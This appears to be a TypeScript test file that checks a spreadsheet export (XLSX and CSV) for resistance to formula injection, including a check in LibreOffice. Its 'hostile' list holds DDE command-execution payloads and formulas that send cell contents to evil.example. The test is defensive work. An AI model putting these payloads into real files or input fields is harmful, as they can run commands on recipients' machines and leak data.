import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { read } from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { account, newHouse } from '../../../tests/harness.ts';
import { writeCsv } from '../../platform/files/write-csv.ts';
import { zipParts } from '../../platform/files/zip-parts.ts';
import { type House, inWork } from '../access/work.ts';
import { releaseSheet } from './release.ts';

/** What people have put into names and addresses so that another's spreadsheet would run it. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u0000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"a")',
  '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "'=1+1",
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '甲,"=1+1"\r\n=2+2',
  '{=SUM(A1:A2)}',
  '%0A=1+1',
  "-2+3+cmd|' /C calc'!A0",
];
const columns = [
  { header: '=1+1' },
  { header: '企业名称' },
  { header: '@金额', kind: 'money' as const },
  { header: '-日', kind: 'day' as const },
];
const rows = hostile.map((text) => [text, `渌口${text}`, text, text]);
let house: House;
let written: Buffer;
let serial: string;

beforeAll(async () => {
  house = await newHouse();
  const { token } = await account(house, 'industry', '渌口区');
  // The reason goes into the mark on the sheet, the foot of the page and the properties.
  const leaving = { list: 'x', says: '=导出', filters: {}, reason: '=HYPERLINK("http://evil.example","报市统计局核对名单") & <b>' };
  const file = await inWork(house, token, (work) =>
    releaseSheet(work, leaving, { name: '=表', title: '=1+1', unit: '@单位', columns, rows }),
  );
  ({ bytes: written, serial } = file);
});
afterAll(() => house.ground.close());

/** Cells of a flat OpenDocument file that compute, and links out of it. */
function running(flat: string): string[] {
  return flat.match(/table:formula="[^"]*"|xlink:href="(?!#)[^"]*"|<table:dde-link|office:dde-source/g) ?? [];
}

describe('a sheet that leaves', () => {
  test('holds no formula, no link, no outside part: neither in its XML nor for SheetJS', async () => {
    const parts = await zipParts(written);
    const sheet = (await parts.whole('xl/worksheets/sheet1.xml'))?.toString() ?? '';
    expect(sheet).not.toMatch(/<f[ >]|<hyperlink/);
    expect(parts.names.filter((name) => /externallink|connections|vba|activex|embeddings/i.test(name))).toEqual([]);
    const book = read(written, { cellFormula: true });
    const cells = Object.values(Object.values(book.Sheets)[0] ?? {}).filter((cell) => typeof cell === 'object' && 't' in cell);
    expect(cells.length).toBeGreaterThan(hostile.length * 4);
    expect(cells.filter((cell) => cell.f !== undefined || cell.l !== undefined)).toEqual([]);
    expect(cells.filter((cell) => hostile.includes(String(cell.v)) && cell.t !== 's')).toEqual([]);
  });

  test('a csv: SheetJS, which computes what begins with =, finds nothing to compute', async () => {
    const bytes = await writeCsv({ name: 'x', columns, rows }, { watermark: { says: '=1', foot: '', properties: {} } });
    expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
    const book = read(bytes, { cellFormula: true });
    const cells = Object.values(Object.values(book.Sheets)[0] ?? {}).filter((cell) => typeof cell === 'object' && 't' in cell);
    expect(cells.length).toBeGreaterThan(hostile.length * 3);
    expect(cells.filter((cell) => cell.f !== undefined)).toEqual([]);
  });
});

const soffice = (() => {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

describe.skipIf(!soffice)('LibreOffice (skipped where soffice is not installed)', () => {
  const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
  const convert = (file: string, to: string, infilter?: string) =>
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        ...(infilter ? [`--infilter=${infilter}`] : []),
        '--convert-to',
        to,
        '--outdir',
        folder,
        join(folder, file),
      ],
      { stdio: 'ignore' },
    );

  test('opens both and computes nothing, even when told to evaluate formulas', { timeout: 120_000 }, async () => {
    writeFileSync(join(folder, 'sheet.xlsx'), written);
    convert('sheet.xlsx', 'fods');
    const flat = readFileSync(join(folder, 'sheet.fods'), 'utf8');
    expect(flat).toContain('=cmd|');
    expect(running(flat)).toEqual([]);
    // The mark is on the printed page and in the properties as LibreOffice knows them.
    const feet = [...flat.matchAll(/<style:footer>[\s\S]*?<\/style:footer>/g)].map(([foot]) => foot.replace(/<[^>]*>/g, ''));
    expect(feet.filter((foot) => foot.includes(serial))).toHaveLength(1);
    expect(flat).toContain(`meta:name="ShengguiSerial"`);
    convert('sheet.xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false');
    expect(readFileSync(join(folder, 'sheet.csv'), 'utf8')).toContain('=HYPERLINK(""http://evil.example/?q=""&A1');

    writeFileSync(join(folder, 'list.csv'), await writeCsv({ name: 'x', columns, rows }, {}));
    // The last token asks to evaluate formulas.
    convert('list.csv', 'fods', 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true');
    const opened = readFileSync(join(folder, 'list.fods'), 'utf8');
    expect(opened).toContain('cmd|');
    expect(running(opened)).toEqual([]);
    // The same text unguarded does compute there: the check can fail.
    writeFileSync(join(folder, 'bare.csv'), '=1+1\r\n');
    convert('bare.csv', 'fods', 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true');
    expect(running(readFileSync(join(folder, 'bare.fods'), 'utf8'))).toHaveLength(1);
  });
});
